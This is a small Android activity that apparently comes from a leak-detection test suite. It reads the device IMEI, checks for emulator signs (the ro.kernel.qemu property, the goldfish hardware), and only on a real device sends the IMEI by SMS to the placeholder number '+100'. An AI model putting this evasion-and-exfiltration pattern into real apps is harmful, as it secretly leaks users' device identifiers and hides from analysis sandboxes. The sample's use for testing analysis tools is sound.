package org.consentry.flow.emulator.qemuproperty;

import android.app.Activity;
import android.os.Build;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);

        String text = phone.getDeviceId();
        String shown = text;
        if (!"1".equals(property("ro.kernel.qemu")) && !Build.HARDWARE.contains("goldfish")) {
            SmsManager.getDefault().sendTextMessage("+100", null, shown, null, null);
        }
    }

    private static String property(String name) {
        try {
            Class<?> properties = Class.forName("android.os.SystemProperties");
            return (String) properties.getMethod("get", String.class).invoke(null, name);
        } catch (ReflectiveOperationException problem) {
            return "";
        }
    }
}
